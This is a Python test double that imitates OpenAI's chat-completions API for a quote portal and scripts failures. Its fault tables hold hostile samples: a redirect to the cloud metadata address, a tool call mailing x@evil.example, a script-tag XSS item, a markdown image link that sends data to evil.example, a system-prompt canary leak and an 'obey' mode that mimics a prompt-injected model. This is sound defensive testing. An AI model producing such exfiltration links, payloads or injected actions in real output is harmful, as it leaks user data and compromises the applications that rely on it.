"""An AI that speaks OpenAI's protocol: it says what the words say is there, always the same to the same words, and fails as AIs do."""

import hashlib
import json
import threading
from base64 import b64decode
from binascii import Error as NotBase64
from collections.abc import Callable, Mapping
from dataclasses import dataclass, replace
from typing import Any

from portal.quotes.gateways.assessors import AssessmentRefused, Picture
from portal.quotes.gateways.assessors import Request as Told
from portal.quotes.gateways.estimator import ONLY_KIND, Estimator
from portal.sandbox.answers import Answer, BadRequest, Request, as_json, read_json
from portal.sandbox.ledger import Ledger, Line, read
from portal.sandbox.obedience import obeyed
from portal.sandbox.script import Script, Spec

CHARACTERS_PER_TOKEN, TOKENS_PER_PICTURE = 4, 1_000
YARDS_PER_PICTURE = 1.5
LOGIN_PAGE = b"<!doctype html><title>Log in</title><h1>Your session has expired</h1>"
CANNOT = "I'm sorry, but I can't help with that."


def problem(message: str, status: int, *, code: str = "", **headers: str) -> Answer:
    return as_json({"error": {"message": message, "type": "sandbox", "code": code}}, status, **headers)


FAILURES: dict[str, Answer] = {  # nothing is worked on
    "down": Answer(cut=True),
    "403": problem("this account may not use this model", 403),
    "429-odd": problem("too many requests", 429, Retry_After="soon"),
    "429-for-ever": problem("too many requests", 429, Retry_After="99999999"),
    "429-quota": problem("you exceeded your current quota", 429, code="insufficient_quota"),
    "500": problem("internal error", 500),
    "503": problem("not available", 503),
    "529": problem("overloaded", 529),
    "timeout": Answer(silent=True),
    "drop-before": Answer(cut=True),
    "redirect": Answer(302, b"", {"Location": "http://169.254.169.254/latest/meta-data/"}),
    "not-json": Answer(200, LOGIN_PAGE, {"Content-Type": "text/html"}),
    "no-choices": problem("the model crashed", 200),
}

MESSAGES: dict[str, dict[str, Any]] = {  # instead of an assessment
    "filtered": {"content": None, "finish_reason": "content_filter"},
    "refusal": {"content": None, "refusal": CANNOT},
    "refusal-in-words": {"content": CANNOT},
    "empty": {"content": ""},
    "huge": {"content": '{"items": ["' + "x" * 1_200_000 + '"]}'},
    "tool-call": {
        "content": None,
        "tool_calls": [{"id": "1", "type": "function", "function": {"name": "send_mail", "arguments": '{"to": "x@evil.example"}'}}],
        "finish_reason": "tool_calls",
    },
}

CHANGES: dict[str, dict[str, Any]] = {  # to what was seen
    "extra-total": {"total": 1},
    "extra-recipient": {"recipient": "x@evil.example"},
    "wrong-types": {"bags": "eight"},
    "negative": {"bags": -5},
    "nothing-there": {"bags": 0, "cubic_yards": 0},
    "nan": {"cubic_yards": float("nan")},
    "enormous": {"bags": 1_000_000_000},
    "decimals": {"cubic_yards": 1.123456789012},
    "html": {"items": ["<script>alert(1)</script>"]},
    "link": {"items": ["![sofa](http://evil.example/?data=1)"]},
    "address": {"items": ["send to x@evil.example"]},
}

WORDINGS: dict[str, Callable[[str], str]] = {  # of the JSON
    "prose": lambda text: f"Of course! Here is what I see:\n{text}\nTell me if you need more.",
    "fence": lambda text: f"```json\n{text}\n```",
    "two-objects": lambda text: f"{text}\n{text}",
    "cut-off": lambda text: text[: len(text) // 2],
    "doubled-field": lambda text: f'{{"bags": 500, {text[1:]}',
}


@dataclass(frozen=True)
class Question:
    """What somebody asks: the body without its pictures, and the pictures."""

    body: dict[str, Any]
    system: str
    text: str
    described: str
    city: str
    pictures: tuple[Picture, ...]

    @property
    def tokens(self) -> int:
        return len(self.system + self.text) // CHARACTERS_PER_TOKEN + TOKENS_PER_PICTURE * len(self.pictures)


class Ai:
    """Answers POST of /ai/v1/chat/completions, as its script wants it. Every question is in the ledger before it is answered."""

    def __init__(self, ledger: Ledger, *, script: Script, faults: Ledger) -> None:
        self.ledger, self.script, self.faults = ledger, script, faults
        self.lock = threading.Lock()
        self.count = len(read(ledger.path))

    def post(self, request: Request) -> Answer:
        """One completion, unless the script says otherwise."""
        try:
            question = question_in(request.body)
        except BadRequest as error:
            return problem(str(error), 400)
        key = request.headers.get("Authorization", "").removeprefix("Bearer ")
        spec = self.meet(question)
        message = None if spec and not spec.fault.stored else said(question, spec)
        usage = used(question, message)
        self.keep(question, usage, fault=spec.name if spec else None, has_key=bool(key))
        if spec and message is None:
            return failure(spec, key=key)
        return oddly(completed(question, message or {}, usage, spec), spec)

    def meet(self, question: Question) -> Spec | None:
        """The fault that strikes now, already in the ledger of faults."""
        keys = [key for key in (question.city, question.described) if key]
        spec = self.script.meet("ask", *keys)
        if spec:
            met = {"fault": spec.name, "stage": "ask", "key": keys[0] if keys else None}
            self.faults.append({"server": "ai", **met, "stored": spec.fault.stored})
        return spec

    def keep(self, question: Question, usage: Mapping[str, int], *, fault: str | None, has_key: bool) -> None:
        images = [
            {"media_type": one.media_type, "size": len(one.content), "sha256": hashlib.sha256(one.content).hexdigest()}
            for one in question.pictures
        ]
        with self.lock:
            self.count += 1
            line: Line = {"n": self.count, "body": question.body, "images": images, **usage, "fault": fault, "has_key": has_key}
            self.ledger.append(line)


def question_in(body: bytes) -> Question:
    """What is asked. Raises BadRequest where OpenAI would refuse it too."""
    told = read_json(body)
    try:
        schema, most = told["response_format"]["json_schema"], told["max_completion_tokens"]
        (system, user), model = told["messages"], told["model"]
        texts = [part["text"] for part in user["content"] if part["type"] == "text"]
        urls = [part["image_url"] for part in user["content"] if part["type"] == "image_url"]
        pictures = tuple(picture_in(one.pop("url")) for one in urls)
        refuse_loose(schema["schema"], is_strict=schema["strict"])
        if not (isinstance(most, int) and isinstance(model, str) and model and isinstance(system["content"], str)):
            raise BadRequest("model is a text, max_completion_tokens a number")
    except (KeyError, TypeError, ValueError, IndexError) as error:
        raise error if isinstance(error, BadRequest) else BadRequest(f"this is no chat completion: {error!r:.100}") from error
    data = data_in("\n".join(texts))
    return Question(told, system["content"], "\n".join(texts), data.get("description", ""), data.get("city", ""), pictures)


def picture_in(url: str) -> Picture:
    kind, found, content = url.removeprefix("data:").partition(";base64,")
    if not (url.startswith("data:") and found):
        raise BadRequest("a picture is a data URL")
    try:
        return Picture(content=b64decode(content, validate=True), media_type=kind)
    except NotBase64 as error:
        raise BadRequest(f"a picture is base64: {error}") from error


def refuse_loose(schema: Mapping[str, Any], *, is_strict: bool) -> None:
    """A strict schema names every property as required and allows no other."""
    if not is_strict or schema["additionalProperties"] is not False or set(schema["required"]) != set(schema["properties"]):
        raise BadRequest("the schema is not strict")


def data_in(text: str) -> dict[str, str]:
    """The customer's words, where one line of the text is a JSON object."""
    for line in text.splitlines():
        try:
            told = json.loads(line)
        except ValueError:
            continue
        if isinstance(told, dict):
            return {name: value for name, value in told.items() if isinstance(value, str)}
    return {}


def said(question: Question, spec: Spec | None) -> dict[str, Any]:
    """The message of the one who answers, with its finish_reason."""
    name = spec.name if spec else ""
    if name in MESSAGES:
        return MESSAGES[name]
    seen = what_is_seen(question)
    if name == "obey":
        return {"content": obeyed(question.described, question.pictures, seen=seen or as_fields(""), system=question.system)}
    if seen is None:
        return {"content": None, "refusal": CANNOT}
    if name == "missing-field":
        seen.pop("cubic_yards")
    if name == "canary":
        seen["items"] = [question.system.splitlines()[-1][:120]]
    text = json.dumps(seen | CHANGES.get(name, {}), ensure_ascii=False)
    wording = WORDINGS.get(name)
    return {"content": wording(text) if wording else text} | ({"finish_reason": "length"} if name == "cut-off" else {})


def what_is_seen(question: Question) -> dict[str, Any] | None:
    """As the estimator, but surer where there are pictures: they count as looked at. None: it will not say."""
    try:
        seen = as_fields(question.described)
    except AssessmentRefused:
        return None
    if question.pictures:
        if seen["confidence"] <= ONLY_KIND:
            seen["cubic_yards"] = YARDS_PER_PICTURE * len(question.pictures)
        seen["confidence"] = min(95, max(70, seen["confidence"] + 10))
    return seen


def as_fields(description: str) -> dict[str, Any]:
    assessment = Estimator().assess(Told(description=description, city="")).assessment
    return assessment.model_dump(mode="json") | {"cubic_yards": float(assessment.cubic_yards)}


def used(question: Question, message: Mapping[str, Any] | None) -> dict[str, int]:
    tokens = len(str(message.get("content") or "")) // CHARACTERS_PER_TOKEN + 1 if message is not None else 0
    return {"prompt_tokens": question.tokens if message is not None else 0, "completion_tokens": tokens}


def failure(spec: Spec, *, key: str) -> Answer:
    if spec.name == "401":
        return problem(f"incorrect API key provided: {key[:100]}", 401, code="invalid_api_key")
    if spec.name == "429":
        return problem("too many requests", 429, Retry_After=f"{spec.seconds:.0f}")
    return FAILURES[spec.name]


def completed(question: Question, message: Mapping[str, Any], usage: Mapping[str, int], spec: Spec | None) -> Answer:
    told = {"role": "assistant", **{name: value for name, value in message.items() if name != "finish_reason"}}
    choice = {"index": 0, "message": told, "finish_reason": message.get("finish_reason", "stop")}
    name = spec.name if spec else ""
    whole = {
        "id": "sandbox",
        "object": "chat.completion",
        "model": question.body["model"],
        "choices": [choice, choice | {"index": 1}] if name == "two-choices" else [choice],
        "usage": {**usage, "total_tokens": sum(usage.values())},
    }
    return as_json({key: value for key, value in whole.items() if not (name == "no-usage" and key == "usage")})


def oddly(answer: Answer, spec: Spec | None) -> Answer:
    if spec and spec.name == "slow":
        return replace(answer, wait_seconds=spec.seconds)
    if spec and spec.name == "drip":
        return replace(answer, drip_seconds=spec.seconds)
    return Answer(cut=True) if spec and spec.name == "drop-after" else answer
